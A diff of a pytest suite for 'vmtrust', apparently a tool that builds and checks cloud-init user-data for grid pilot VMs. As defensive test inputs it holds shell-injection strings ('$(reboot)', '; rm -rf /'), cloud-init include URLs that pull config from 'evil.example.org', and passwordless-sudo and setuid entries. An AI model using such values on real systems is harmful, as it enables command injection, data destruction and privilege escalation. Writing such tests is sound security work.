+    assert config["mounts"] == [["ephemeral0", "/scratch", "xfs",
+                                 "defaults,nofail,x-systemd.requires=cloud-init.service", "0",
+                                 "2"]]  # fmt: skip
+    assert "SCRATCH_DIR=/scratch/cmspilot\n" in part(data, scripts.MACHINE)
+    files = files_by_path(config)
+    assert 'WORKDIR="$R"/scratch/cmspilot\n' in files[scripts.LAUNCHER]["content"]
+    unit = files["/etc/systemd/system/vmtrust-pilot.service"]["content"]
+    assert "ReadWritePaths=-/home/cmspilot /var/lib/vmtrust/joboutputs -/scratch\n" in unit
 
 
-def test_pilot_config_and_credential_are_private_to_the_pilot_user(built):
+def test_pilot_files_are_private_to_the_pilot_user(built):
     _, _, data = built
     files = files_by_path(cloud_config(data))
     for path, content in (("/etc/vo/pilot.cfg", "queue=T2_XX\n"), ("/etc/vo/token", SECRET)):
@@ -460,9 +608,10 @@ def test_pilot_config_and_credential_are_private_to_the_pilot_user(built):
         assert item["permissions"] == "0600"
         assert item["owner"] == "cmspilot:cmspilot"
         assert item["defer"] is True
-    env = files["/etc/vo/pilot.env"]
-    assert (env["permissions"], env["owner"], env["defer"]) == ("0600", "cmspilot:cmspilot", True)
-    assert env["content"] == "QUEUE=T2_XX\n"
+    start = files[scripts.LAUNCHER]
+    assert (start["permissions"], start["owner"], start["defer"]) == (
+        "0500", "cmspilot:cmspilot", True,
+    )  # fmt: skip
     vo_file_item = files["/opt/cms/site.json"]
     assert (vo_file_item["owner"], vo_file_item["permissions"]) == ("root:root", "0644")
     assert "defer" not in vo_file_item
@@ -471,7 +620,7 @@ def test_pilot_config_and_credential_are_private_to_the_pilot_user(built):
 def test_metadata_is_blocked_only_when_pilot_secrets_are_carried(tmp_path):
     site, vo = load(tmp_path)
     assert cloud_config(context.build(site, vo))["disable_ec2_metadata"] is True
-    # the pilot's configuration and environment files (mode 0600) may hold secrets too
+    # the pilot's configuration and environment may hold secrets too
     site, vo = load(tmp_path, vo={"pilot.credential": DROP})
     assert cloud_config(context.build(site, vo))["disable_ec2_metadata"] is True
     plain = {"pilot.credential": DROP, "pilot.config": DROP, "pilot.environment": DROP}
@@ -484,93 +633,66 @@ def test_metadata_is_blocked_only_when_pilot_secrets_are_carried(tmp_path):
 @pytest.mark.parametrize(("asked", "expected"), [(43200, 43200), (None, 86400), (3600, 3600)])
 def test_lifetime_is_the_vo_lifetime_within_the_site_maximum(tmp_path, asked, expected):
     site, vo = load(tmp_path, vo={"lifetime": DROP if asked is None else asked})
-    runcmd = cloud_config(context.build(site, vo))["runcmd"]
-    text = "\n".join(runcmd)
-    assert f"+ {expected} )) > /etc/machinefeatures/shutdowntime" in text
-    assert "echo 300 > /etc/machinefeatures/grace_secs" in text
-    assert f"--on-active={expected} /bin/systemctl poweroff" in text
-    assert f"shutdown -h +{(expected + 59) // 60}" in text
+    machine = part(context.build(site, vo), scripts.MACHINE)
+    assert f"\nLIFETIME={expected}\nGRACE=300\n" in machine
+    # the shutdown time leaves the pilot its grace before the machine's lifetime ends
+    assert "$(( $(date +%s) + LIFETIME - GRACE ))" in machine
 
 
-def test_scripts_run_cvmfs_before_the_pilot_as_the_pilot_user(built):
+def test_the_pilot_unit_is_vmtrusts_own_and_unprivileged(built):
     _, _, data = built
-    parts = context.unpack(data)
-    assert [(p.filename, p.content_type) for p in parts] == [
-        ("00-vmtrust.cfg", "text/cloud-config"),
-        ("10-vmtrust-cvmfs.sh", "text/x-shellscript"),
-        ("30-vmtrust-pilot.sh", "text/x-shellscript"),
-    ]
-    scripts = [p.filename for p in parts[1:]]
-    assert scripts == sorted(scripts)  # cloud-init runs user scripts in file-name order
-    cvmfs, pilot = parts[1].body, parts[2].body
-    assert "cvmfs_config setup" in cvmfs
-    assert "for repo in grid.cern.ch cms.cern.ch; do" in cvmfs
-    assert "cvmfs_config probe" in cvmfs
-    assert "/run/vmtrust/cvmfs.failed" in pilot  # the pilot does not start without CVMFS
-    lines = pilot.splitlines()
-    start = next(i for i, line in enumerate(lines) if line.startswith("runuser -u cmspilot -- "))
-    assert "/opt/cms/pilot.sh --queue T2_XX" in lines[start]
-    assert lines.index("echo vo-command-marker") < start
-    assert lines[-1] == "systemctl poweroff"
-    assert not any("runuser" not in line and "pilot.sh" in line for line in lines)
-
-
-def test_systemd_unit_pilot_is_written_started_and_runs_as_the_pilot_user(tmp_path):
-    unit = "[Unit]\nDescription=pilot\n[Service]\nUser=root\nExecStart=/opt/cms/pilot\n"
-    site, vo = load(
-        tmp_path,
-        vo={"pilot.command": DROP, "pilot.systemd_unit": unit, "pilot.unit_name": "vo-cms.service"},
-    )
-    data = context.build(site, vo)
     files = files_by_path(cloud_config(data))
-    assert files["/etc/systemd/system/vo-cms.service"]["content"] == unit
-    drop_in = files["/etc/systemd/system/vo-cms.service.d/50-vmtrust.conf"]["content"]
-    # a drop-in is read after the unit: its User= wins over the VO's User=root
-    assert [line for line in drop_in.splitlines() if not line.startswith("#")] == [
-        "[Service]",
-        "User=cmspilot",
-        "Group=cmspilot",
-        "SupplementaryGroups=",
-        "AmbientCapabilities=",
-        # machine/job features and the VO's variables, as the command variant gets them
-        "Environment=MACHINEFEATURES=/etc/machinefeatures JOBOUTPUTS=/etc/joboutputs",
-        "EnvironmentFile=-/etc/vo/pilot.env",
-    ]
-    pilot = context.unpack(data)[-1].body
-    assert "systemctl daemon-reload\nsystemctl start --wait vo-cms.service\n" in pilot
-    assert "runuser" not in pilot
-    assert context.explain(data, site)[1] == []
+    unit = files["/etc/systemd/system/vmtrust-pilot.service"]["content"]
+    settings = dict(
+        line.split("=", 1) for line in unit.splitlines() if "=" in line and line[0] != "#"
+    )
+    assert settings["User"] == settings["Group"] == "cmspilot"
+    assert settings["ExecStart"] == scripts.LAUNCHER
+    assert settings["NoNewPrivileges"] == "yes"
+    assert settings["ProtectSystem"] == "strict"
+    assert settings["PrivateTmp"] == "yes"
+    assert settings["CapabilityBoundingSet"] == ""
+    assert settings["TimeoutStopSec"] == "300"  # the site's grace
+    assert "/opt/cms" not in unit and "T2_XX" not in unit  # no VO text in the unit at all
+    start = files[scripts.LAUNCHER]["content"]
+    tail = start.split('JOBOUTPUTS="$R/var/lib/vmtrust/joboutputs" \\\n')[1]
+    words = shlex.split(tail.replace(" \\\n", " "))  # one word per continued line
+    assert words == ["QUEUE=T2_XX", "/opt/cms/pilot.sh", "--queue", "T2_XX"]
 
 
-@pytest.mark.parametrize("name", ["sshd.service", "rsyslog.service", "vo-pilot.timer", "vo-"])
-def test_a_vo_unit_cannot_replace_a_system_service(tmp_path, name):
-    site = context.load_site(site_file(tmp_path))
-    path = vo_file(
-        tmp_path,
-        **{"pilot.command": DROP, "pilot.systemd_unit": "[Service]\nExecStart=/opt/p\n",
-           "pilot.unit_name": name},
-    )  # fmt: skip
-    exc = refused(context.load_vo, path, site)
-    assert_one_line_naming(exc, path, "pilot.unit_name")
+@pytest.mark.parametrize(
+    "argument",
+    ["$(reboot)", "`id`", "a'b", 'a"b', "; rm -rf /", "--x=$HOME", "\\", "*"],
+)
+def test_pilot_arguments_and_environment_are_never_shell_code(tmp_path, argument):
+    """Each VO word reaches the pilot exactly as written (run through the real /bin/sh)."""
+    site, vo = load(
+        tmp_path, vo={"pilot.arguments": [argument], "pilot.environment": {"X": argument}}
+    )
+    start = files_by_path(cloud_config(context.build(site, vo)))[scripts.LAUNCHER]["content"]
+    words = start.split('JOBOUTPUTS="$R/var/lib/vmtrust/joboutputs" \\\n')[1]
+    probe = tmp_path / "probe.sh"
+    probe.write_text(f"printf '%s\\n' {words}", encoding="utf-8")
+    out = subprocess.run(["/bin/sh", str(probe)], capture_output=True, text=True, check=True)
+    assert out.stdout.splitlines() == [f"X={argument}", "/opt/cms/pilot.sh", argument]
 
 
-def test_without_cvmfs_and_pilot_the_user_data_is_one_cloud_config(tmp_path):
+def test_without_cvmfs_and_pilot_the_lifetime_is_still_armed(tmp_path):
     site = context.load_site(site_file(tmp_path, cvmfs=DROP))
     vo = context.load_vo(write_yaml(tmp_path / "vo.yaml", {"vo": "ops", "lifetime": 600}), site)
     data = context.build(site, vo)
-    assert data.startswith(b"#cloud-config\n")
-    assert b"mime-version" not in data.lower()
-    config = yaml.safe_load(data)
-    assert "write_files" not in config
+    assert [p.filename for p in context.unpack(data)] == ["00-vmtrust.cfg", scripts.MACHINE]
+    config = cloud_config(data)
+    assert "/etc/cvmfs/default.local" not in files_by_path(config)
     assert config["rsyslog"] == {"remotes": {"site0": SYSLOG}}
-    assert "--on-active=600 " in "\n".join(config["runcmd"])
+    assert "\nLIFETIME=600\n" in part(data, scripts.MACHINE)
 
 
-def test_site_cvmfs_without_vo_pilot_has_only_the_cvmfs_script(tmp_path):
+def test_site_cvmfs_without_vo_pilot_has_no_pilot_part(tmp_path):
     site = context.load_site(site_file(tmp_path))
     vo = context.load_vo(write_yaml(tmp_path / "vo.yaml", {"vo": "ops"}), site)
     parts = context.unpack(context.build(site, vo))
-    assert [p.filename for p in parts] == ["00-vmtrust.cfg", "10-vmtrust-cvmfs.sh"]
+    assert [p.filename for p in parts] == ["00-vmtrust.cfg", scripts.MACHINE, scripts.SOFTWARE]
 
 
 def test_output_is_deterministic(tmp_path):
@@ -584,6 +706,16 @@ def test_output_is_deterministic(tmp_path):
     assert other != first
 
 
+def test_the_flavour_fixes_the_machine_features_else_the_machine_measures(tmp_path):
+    site, vo = load(tmp_path)
+    measured = part(context.build(site, vo), scripts.MACHINE)
+    assert "\nTOTAL_CPU=$(nproc)\n" in measured and "\nSCRATCH_BYTES=\n" in measured
+    flavour = context.Flavour(vcpus=8, ram_mb=16000, swap_mb=0, scratch_gb=40)
+    sized = part(context.build(site, vo, flavour=flavour), scripts.MACHINE)
+    assert "\nTOTAL_CPU=8\nMAX_RSS_BYTES=16777216000\nMAX_SWAP_BYTES=0\n" in sized
+    assert "\nSCRATCH_BYTES=42949672960\n" in sized
+
+
 def test_unknown_cloud_is_refused(built):
     site, vo, _ = built
     with pytest.raises(context.UserDataError, match="cloud 'azure'"):
@@ -593,7 +725,7 @@ def test_unknown_cloud_is_refused(built):
 def test_parts_are_7bit_us_ascii_unless_their_text_is_not(tmp_path):
     site, vo = load(tmp_path)
     data = context.build(site, vo)
-    assert data.count(b'charset="us-ascii"') == 3
+    assert data.count(b'charset="us-ascii"') == 5
     assert b"Content-Transfer-Encoding: base64" not in data
     assert b"cvmfs_config setup ||" in data  # readable as it is
     # non-ASCII text: YAML escapes it in the cloud-config; a script part becomes utf-8
@@ -605,11 +737,11 @@ def test_parts_are_7bit_us_ascii_unless_their_text_is_not(tmp_path):
         },
     )
     data = context.build(site, vo)
-    assert data.count(b'charset="us-ascii"') == 2
+    assert data.count(b'charset="us-ascii"') == 4
     assert data.count(b'charset="utf-8"') == 1
     config = cloud_config(data)
     assert files_by_path(config)["/opt/cms/caf\u00e9.txt"]["content"] == "d\u00e9j\u00e0\n"
-    assert "echo d\u00e9j\u00e0\n" in context.unpack(data)[-1].body
+    assert "echo d\u00e9j\u00e0\n" in part(data, scripts.VO_COMMANDS)
 
 
 # --- size limits ------------------------------------------------------------------------
@@ -623,7 +755,7 @@ def _big_vo(tmp_path: Path, content: str, **changes: Any) -> tuple[Any, Any]:
 
 
 def test_too_big_for_ec2_raw_is_gzipped_automatically(tmp_path):
-    content = "".join(f"line {n} of a compressible pilot configuration\n" for n in range(600))
+    content = "".join(f"line {n} of a compressible pilot configuration\n" for n in range(200))
     site, vo = _big_vo(tmp_path, content)
     plain = context.build(site, vo, cloud="openstack")
     assert plain[:2] != b"\x1f\x8b"
@@ -682,7 +814,7 @@ def test_limit_boundary_is_measured_as_the_cloud_measures(tmp_path, cloud, max_p
 
     overhead = len(sized(1000)) - 1000
     at_limit = sized(max_plain - overhead)
-    assert len(at_limit) == max_plain and at_limit.startswith(b"#cloud-config")
+    assert len(at_limit) == max_plain and at_limit[:2] != b"\x1f\x8b"
     over = sized(max_plain - overhead + 1)
     assert len(gzip.decompress(over)) == max_plain + 1
     if cloud == "openstack":
@@ -690,65 +822,35 @@ def test_limit_boundary_is_measured_as_the_cloud_measures(tmp_path, cloud, max_p
         assert len(base64.b64encode(gzip.decompress(over))) == 65536
 
 
-# --- secrets ----------------------------------------------------------------------------
-
-
-def test_credential_never_appears_in_repr_or_logs_of_a_build(tmp_path, caplog):
-    caplog.set_level(logging.DEBUG)
+def test_a_full_site_and_vo_fit_ec2_without_gzip(tmp_path):
+    """The scripts are a fixed cost; a typical request must leave room under EC2's 16 KiB."""
     site, vo = load(tmp_path)
-    context.build(site, vo, cloud="ec2")
-    context.explain(context.build(site, vo), site)
-    assert SECRET not in repr(vo)
-    assert SECRET not in caplog.text
-    assert all(SECRET not in record.getMessage() for record in caplog.records)
+    assert len(context.build(site, vo, cloud="ec2")) <= 16384
+    assert context.build(site, vo, cloud="ec2")[:2] != b"\x1f\x8b"
 
 
-@pytest.mark.parametrize(
-    "changes",
-    [
-        {"users": ["intruder"]},
-        {"pilot.credential": {"path": "/root/token", "content": SECRET}},
-        {"pilot.credential": {"path": "/etc/vo/token", "content": SECRET, "mode": "0400"}},
-        {"pilot.credential": {"path": "/etc/vo/token", "content": [SECRET]}},
-        {"pilot.environment": {"BAD-NAME": SECRET}},
-        {"pilot.credential": SECRET},
-    ],
-    ids=["other-key", "bad-path", "extra-key", "not-a-string", "env", "not-a-mapping"],
-)
-def test_credential_never_appears_in_a_refusal(tmp_path, caplog, changes):
-    caplog.set_level(logging.DEBUG)
-    site = context.load_site(site_file(tmp_path))
-    path = vo_file(tmp_path, **changes)
-    exc = refused(context.load_vo, path, site)
-    assert SECRET not in str(exc)
-    assert all(SECRET not in problem for problem in exc.problems)
-    assert SECRET not in caplog.text
+# --- the command line -------------------------------------------------------------------
 
 
-def test_credential_is_not_echoed_from_broken_yaml(tmp_path):
-    site = context.load_site(site_file(tmp_path))
-    path = tmp_path / "vo.yaml"
-    path.write_text(f"vo: cms\npilot:\n  credential: {{path: /etc/vo/token, content: {SECRET}\n")
-    exc = refused(context.load_vo, path, site)
-    assert "not valid YAML" in str(exc) and SECRET not in str(exc)
-
-
-def run_cli(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess:
-    return subprocess.run(
-        [str(VMTRUST), *args], input=stdin, capture_output=True, timeout=60, check=False
-    )
-
-
-def test_cli_build_refusal_is_one_line_without_secret_or_traceback(tmp_path):
+def test_cli_build_prints_every_refusal_one_line_each_with_the_policy_status(tmp_path):
     site = site_file(tmp_path)
-    vo = vo_file(tmp_path, bootcmd=["echo early"])
+    vo = vo_file(tmp_path, bootcmd=["echo early"], packages=["nginx"], users=["x"])
     result = run_cli("context", "build", "--site", str(site), "--vo", str(vo))
-    assert result.returncode == 4
+    assert result.returncode == 20
     assert result.stdout == b""
-    err = result.stderr.decode()
-    assert err.count("\n") == 1 and err.startswith(f"vmtrust: VO profile {vo}: bootcmd: ")
-    assert "Traceback" not in err
-    assert SECRET not in err
+    lines = result.stderr.decode().splitlines()
+    assert len(lines) == 3
+    assert all(line.startswith(f"vmtrust: VO profile {vo}: ") for line in lines)
+    assert {line.split(": ")[2] for line in lines} == {"bootcmd", "packages", "users"}
+    assert "more problem" not in result.stderr.decode()
+    assert b"Traceback" not in result.stderr and SECRET.encode() not in result.stderr
+
+
+def test_cli_build_of_a_bad_site_profile_prints_every_problem_with_the_config_status(tmp_path):
+    site = site_file(tmp_path, sitename="X", **{"cvmfs.quota_mb": 1, "pilot_user": "root"})
+    result = run_cli("context", "build", "--site", str(site), "--vo", str(vo_file(tmp_path)))
+    assert result.returncode == 4
+    assert len(result.stderr.decode().splitlines()) == 3
 
 
 def test_cli_build_too_big_is_one_line_with_exit_status(tmp_path):
@@ -787,428 +889,82 @@ def test_cli_build_to_stdout_gives_the_same_bytes(tmp_path):
     assert result.stderr == b""
 
 
-# --- explain and check ------------------------------------------------------------------
-
-
-def mime(*parts: tuple[str, str, str]) -> bytes:
-    """A multipart user-data of (filename, subtype, body) parts, as other tools make them."""
-    message = MIMEMultipart(boundary="==test==")
-    for filename, subtype, body in parts:
-        item = MIMEText(body, subtype, "us-ascii")
-        item.add_header("Content-Disposition", "attachment", filename=filename)
-        message.attach(item)
-    return message.as_bytes()
-
-
-def test_explain_describes_each_part(built):
-    site, _, data = built
-    lines, problems = context.explain(data, site)
-    assert problems == []
-    assert lines[0] == f"3 part(s), {len(data)} bytes"
-    assert "00-vmtrust.cfg: cloud-config" in lines
-    assert "  writes /etc/vo/token (mode 0600, owner cmspilot:cmspilot, after users exist)" in lines
-    assert "  forwards syslog to " + SYSLOG in lines
-    assert "  blocks access to the metadata service" in lines
-    assert "  creates users: default, cmspilot" in lines
-    assert any(line.startswith("10-vmtrust-cvmfs.sh: shell script") for line in lines)
-    assert any(line.startswith("30-vmtrust-pilot.sh: shell script") for line in lines)
-    assert SECRET not in "\n".join(lines)
-
-
-def test_explain_handles_gzip_like_plain(built):
-    site, vo, data = built
-    packed = context.build(site, vo, compress=True)
-    lines, problems = context.explain(packed, site)
-    assert problems == []
-    assert lines[1:] == context.explain(data, site)[0][1:]
-
-
-def test_explain_damaged_gzip_is_an_error(built):
-    site, vo, _ = built
-    packed = context.build(site, vo, compress=True)
-    with pytest.raises(context.UserDataError, match="gzip data is damaged"):
-        context.explain(packed[:-20], site)
-    corrupt = bytearray(packed)
-    corrupt[len(corrupt) // 2] ^= 0xFF  # inside the deflate stream: a zlib error
-    with pytest.raises(context.UserDataError, match="gzip data is damaged"):
-        context.explain(bytes(corrupt), site)
-
-
-def test_explain_survives_random_damage(built):
-    site, _, plain = built
-    rng = random.Random(3)
-    for n in range(400):
-        data = bytearray(plain if n % 2 else gzip.compress(plain, mtime=0))
-        for _ in range(rng.randint(1, 6)):
-            data[rng.randrange(len(data))] = rng.randrange(256)
-        with contextlib.suppress(context.UserDataError):
-            context.explain(bytes(data), site)
-
-
-@pytest.mark.parametrize(
-    ("subtype", "body", "kind"),
-    [
-        ("part-handler", "#part-handler\ndef handle_part(*a):\n    pass\n", "text/part-handler"),
-        ("x-include-url", "#include\nhttps://evil.example.org/more\n", "text/x-include-url"),
-        ("plain", "#include\nhttps://evil.example.org/more\n", "text/x-include-url"),
-        ("cloud-boothook", "#cloud-boothook\n#!/bin/sh\necho early\n", "text/cloud-boothook"),
-        ("plain", "## template: jinja\n#!/bin/sh\necho {{ v1.instance_id }}\n", "text/jinja2"),
-        (
-            "plain",
-            "#cloud-config-archive\n- type: text/x-shellscript\n",
-            "text/cloud-config-archive",
-        ),
-        ("x-unknown", "whatever\n", "text/x-unknown"),
-    ],
-    ids=["part-handler", "include", "include-as-plain", "boothook", "jinja", "archive", "unknown"],
-)
-def test_check_refuses_risky_part_types(built, subtype, body, kind):
-    site, vo, _ = built
-    config, parts = compose(site, vo)
-    own = [(p.filename, p.content_type.split("/")[1], p.body) for p in parts]
-    cfg = ("00-vmtrust.cfg", "cloud-config", package(config, []).decode())
-    data = mime(cfg, *own, ("99-extra", subtype, body))
-    assert context.explain(mime(cfg, *own), site)[1] == []  # the same without the extra part
-    lines, problems = context.explain(data, site)
-    assert problems == [f"99-extra: {kind} not allowed: it {problems[0].split(': it ', 1)[1]}"]
-    assert any(line.startswith(f"99-extra: {kind} — ") for line in lines)
-    # without a site the parts are explained, nothing is refused
-    assert context.explain(data)[1] == []
-
-
-@pytest.mark.parametrize(
-    ("subtype", "body", "kind"),
-    [
-        # cloud-init re-types text/x-shellscript and text/plain parts by their first line
-        ("x-shellscript", "#cloud-config\nusers: [intruder]\n", "text/cloud-config"),
-        ("x-shellscript", "#part-handler\ndef handle_part(*a):\n    pass\n",
-         "text/part-handler"),
-        ("plain", "#Cloud-Boothook\necho early\n", "text/cloud-boothook"),
-        ("plain", "  #include https://evil.example.org/more\n", "text/x-include-url"),
-        ("x-not-multipart", "#include-once\nhttps://evil.example.org/\n",
-         "text/x-include-once-url"),
-        ("x-shellscript-per-boot", "#!/bin/sh\necho every boot\n",
-         "text/x-shellscript-per-boot"),
-    ],
-    ids=["script-is-config", "script-is-handler", "boothook-case", "include-space",
-         "include-once", "per-boot"],
-)  # fmt: skip
-def test_check_sees_parts_as_cloud_init_types_them(built, subtype, body, kind):
-    site, _, data = built
-    parts = [(p.filename, p.content_type.split("/")[1], p.body) for p in context.unpack(data)]
-    extra = mime(*parts, ("40-extra.sh", subtype, body))
-    assert context.explain(mime(*parts), site)[1] == []
-    assert context.unpack(extra)[-1].content_type == kind
-    assert context.explain(extra, site)[1] != []
-
-
-def test_check_gunzips_gzip_parts_and_types_them_by_content(built):
-    from email.mime.application import MIMEApplication
-
-    site, _, data = built
-    message = email.message_from_bytes(data)
-    handler = MIMEApplication(gzip.compress(b"#part-handler\ndef handle_part(*a): pass\n"), "gzip")
-    message.attach(handler)
-    parts = context.unpack(message.as_bytes())
-    assert parts[-1].content_type == "text/part-handler"
-    problems = context.explain(message.as_bytes(), site)[1]
-    assert len(problems) == 1 and "text/part-handler not allowed" in problems[0]
-    broken = MIMEApplication(gzip.compress(b"#!/bin/sh\n")[:-6], "gzip")
-    message.attach(broken)
-    with pytest.raises(context.UserDataError, match="gzip part is damaged"):
-        context.explain(message.as_bytes(), site)
-
-
-@pytest.mark.parametrize(
-    ("body", "problem"),
-    [("#cloud-config\nusers: [a\n", "not valid YAML"), ("#cloud-config\n- a\n", "not a mapping")],
-)
-def test_check_refuses_unreadable_cloud_config(built, body, problem):
-    site, _, _ = built
-    _, problems = context.explain(body.encode(), site)
-    assert problems[0] == f"part-001: cloud-config is {problem}"
-
-
-@pytest.mark.parametrize(
-    "config",
-    [
-        {"users": [None]},
-        {"users": [{"name": {"x": 1}}]},
-        {"rsyslog": ["@@x:514"]},
-        {"rsyslog": {"remotes": {"a": ["@@x"]}}},
-        {"ca_certs": "PEM"},
-        {"ca_certs": {"trusted": [{"a": 1}]}},
-    ],
-)
-def test_check_refuses_cloud_config_of_unexpected_shape_without_crashing(built, config):
-    site, _, _ = built
-    data = f"#cloud-config\n{yaml.safe_dump(config)}".encode()
-    problems = context.explain(data, site)[1]
-    assert "part-001: cloud-config has values of unexpected types" in problems
-
-
-def test_cli_check_of_unexpected_shape_is_a_refusal_not_a_crash(tmp_path):
-    data = tmp_path / "ud"
-    data.write_bytes(b"#cloud-config\nrsyslog: [1]\nwrite_files: [{path: 5}]\n")
-    result = run_cli("context", "check", str(data), "--site", str(site_file(tmp_path)))
-    assert result.returncode == 20
-    assert b"internal error" not in result.stderr
-
-
-def test_check_refuses_two_cloud_config_parts(built):
-    site, vo, _ = built
-    config, _ = compose(site, vo)
-    text = package(config, []).decode()
-    # even a second copy of the site's own config is refused: the count is the problem
-    data = mime(("a.cfg", "cloud-config", text), ("b.cfg", "cloud-config", text))
-    lines, problems = context.explain(data, site)
-    assert len(problems) == 1 and problems[0].startswith("2 cloud-config parts")
-    assert context.explain(mime(("a.cfg", "cloud-config", text)), site)[1] == []
-    assert "note: later cloud-config parts replace top-level keys of earlier ones" in lines
-
-
-def _check_changed(site, vo, change) -> list[str]:
-    config, parts = compose(site, vo)
-    change(config)
-    return context.explain(package(config, parts), site)[1]
-
-
-@pytest.mark.parametrize(
-    ("change", "expected"),
-    [
-        (lambda c: c["users"].append({"name": "intruder"}), "users: intruder"),
-        (lambda c: c["users"][1].update(sudo="ALL=(ALL) NOPASSWD:ALL"), "users: cmspilot: sudo"),
-        (lambda c: c.update(groups=["wheel"]), "groups: "),
-        (
-            lambda c: c["ssh_authorized_keys"].append("ssh-ed25519 AAAAother"),
-            "ssh_authorized_keys: a key that is not the site's",
-        ),
-        (lambda c: c.update(bootcmd=["echo early"]), "bootcmd: "),
-        (lambda c: c.update(mounts=[["/dev/vdb", "/data"]]), "mounts: "),
-        (lambda c: c.update(disable_root=False), "disable_root: "),
-        (lambda c: c.update(merge_how="list(append)+dict(no_replace)"), "merge_how"),
-        (lambda c: c.update(merge_type="list(append)"), "merge_how"),
-        (lambda c: c.pop("rsyslog"), "rsyslog: not forwarding to the site's syslog"),
-        (
-            lambda c: c["rsyslog"]["remotes"].update(site0="@@elsewhere.example.org:514"),
-            "rsyslog: not forwarding to the site's syslog",
-        ),
-        (lambda c: c.pop("ca_certs"), "ca_certs: the site's CA certificates are missing"),
-        (lambda c: c["write_files"].pop(0), "the site's CVMFS proxy is not configured"),
-        (
-            lambda c: c["write_files"].append({"path": "/etc/ssh/sshd_config", "content": "x"}),
-            "write_files: /etc/ssh/sshd_config is a site-controlled location",
-        ),
-        (lambda c: c["packages"].append("nginx"), "packages: nginx is not on"),
-        (lambda c: c.update(power_state={"mode": "poweroff"}), "power_state: "),
-        (
-            lambda c: c["write_files"].append(
-                {"path": "/opt/vo/tool", "content": "x", "permissions": "4755"}
-            ),
-            "write_files: /opt/vo/tool is setuid or setgid (4755)",
-        ),
-        (
-            lambda c: c.update(disable_ec2_metadata=False),
-            "disable_ec2_metadata: files with secrets",
-        ),
-    ],
-    ids=[
-        "user",
-        "pilot-sudo",
-        "groups",
-        "ssh-key",
-        "bootcmd",
-        "mounts",
-        "disable-root",
-        "merge-how",
-        "merge-type",
-        "no-syslog",
-        "other-syslog",
-        "no-ca",
-        "no-proxy",
-        "site-path",
-        "package",
-        "power-state",
-        "setuid",
-        "metadata-open",
-    ],
-)
-def test_check_refuses_what_reaches_into_the_site_share(built, change, expected):
-    site, vo, _ = built
-    assert _check_changed(site, vo, lambda c: None) == []
-    problems = _check_changed(site, vo, change)
-    assert len(problems) == 1, problems
-    assert expected in problems[0]
-
-
-DEFAULT_LOCAL = "/etc/cvmfs/default.local"
-
-
-def _local(config: dict[str, Any]) -> dict[str, Any]:
-    return next(i for i in config["write_files"] if i["path"] == DEFAULT_LOCAL)
-
-
-@pytest.mark.parametrize(
-    ("change", "expected"),
-    [
-        (lambda c: _local(c).update(content=f"# {PROXY}\nCVMFS_HTTP_PROXY=DIRECT\n"),
-         "sets CVMFS_HTTP_PROXY to 'DIRECT'"),
-        (lambda c: _local(c).update(content=_local(c)["content"] + "CVMFS_HTTP_PROXY=DIRECT\n"),
-         "sets CVMFS_HTTP_PROXY to 'DIRECT'"),
-        (lambda c: c["write_files"].append({"path": DEFAULT_LOCAL, "content": "X=1\n"}),
-         "the site's CVMFS proxy is not configured"),
-        (lambda c: c["write_files"].append(
-            {"path": DEFAULT_LOCAL, "content": "CVMFS_HTTP_PROXY=DIRECT\n", "append": True}),
-         "sets CVMFS_HTTP_PROXY to 'DIRECT'"),
-        (lambda c: _local(c).update(encoding="b64"), "the site's CVMFS proxy is not configured"),
-        (lambda c: _local(c).update(content=f"CVMFS_HTTP_PROXY='{PROXY}\n"),
-         "sets CVMFS_HTTP_PROXY to ''"),
-        (lambda c: _local(c).update(content=f"CVMFS_HTTP_PROXY='{PROXY}'; rm -rf /\n"),
-         "sets CVMFS_HTTP_PROXY to ''"),
-        (lambda c: c["write_files"].append(
-            {"path": "/etc/systemd/system/sshd.service", "content": "[Service]\n"}),
-         "/etc/systemd/system/sshd.service is a site-controlled location"),
-        (lambda c: c["write_files"].append(
-            {"path": "/etc/systemd/system/vo-x.service", "content": "[Service]\n"}),
-         "vo-x.service is a service that does not run as cmspilot"),
-        (lambda c: c["write_files"].extend([
-            {"path": "/etc/systemd/system/vo-x.service", "content": "[Service]\n"},
-            {"path": "/etc/systemd/system/vo-x.service.d/50-vmtrust.conf",
-             "content": "[Service]\nUser=root\n"}]),
-         "vo-x.service is a service that does not run as cmspilot"),
-        (lambda c: c["write_files"].append(
-            {"path": "/etc/systemd/system/multi-user.target.wants/x.service", "content": ""}),
-         "is a site-controlled location"),
-    ],
-    ids=["proxy-in-comment", "proxy-reassigned", "replaced", "appended", "encoded", "unquoted",
-         "extra-command",
-         "system-unit", "vo-unit-no-dropin", "vo-unit-bad-dropin", "wants"],
-)  # fmt: skip
-def test_check_reads_what_cloud_init_will_write(built, change, expected):
-    site, vo, _ = built
-    problems = _check_changed(site, vo, change)
-    assert expected in problems[0]
-    # a bad drop-in is refused too, as a file of its own
-    assert len(problems) == 1 or problems[1].endswith(
-        "50-vmtrust.conf is a site-controlled location"
-    )
-
-
-def test_check_follows_appends_to_default_local(built):
-    site, vo, _ = built
-    extra = {"path": DEFAULT_LOCAL, "content": "CVMFS_NFILES=131072\n", "append": True}
-    assert _check_changed(site, vo, lambda c: c["write_files"].append(extra)) == []
-
-
-def test_pilot_config_without_credential_also_closes_the_metadata_service(tmp_path):
-    """Every 0600 pilot file may hold a secret; vmtrust's own output passes its own check."""
-    site_path = tmp_path / "site.yaml"
-    site_path.write_text("site: S\nlifetime: {max_seconds: 3600}\n")
-    vo_path = tmp_path / "vo.yaml"
-    vo_path.write_text(
-        "vo: v\npilot:\n  command: /opt/pilot\n"
-        "  config: {path: /etc/vo/pilot.cfg, content: 'token = abc'}\n"
-    )
-    site = context.load_site(site_path)
-    data = context.build(site, context.load_vo(vo_path, site))
-    config = yaml.safe_load(context.unpack(data)[0].body)
-    assert config["disable_ec2_metadata"] is True
-    assert context.explain(data, site)[1] == []
-
-
-def test_check_allows_vmtrust_output_for_a_cvmfs_site_without_repositories(tmp_path):
-    site = context.load_site(site_file(tmp_path, **{"cvmfs.repositories": DROP}))
-    vo = context.load_vo(write_yaml(tmp_path / "vo.yaml", {"vo": "ops", "runcmd": ["true"]}), site)
-    data = context.build(site, vo)
-    assert [p.filename for p in context.unpack(data)] == ["00-vmtrust.cfg", "30-vmtrust-pilot.sh"]
-    local = files_by_path(cloud_config(data))[DEFAULT_LOCAL]["content"]
-    assert _source(local, tmp_path, "CVMFS_HTTP_PROXY") == PROXY
-    assert context.explain(data, site)[1] == []
-
-
-def test_check_refuses_user_data_without_any_cloud_config(built):
-    site, _, _ = built
-    data = b"#!/bin/sh\necho hello\n"
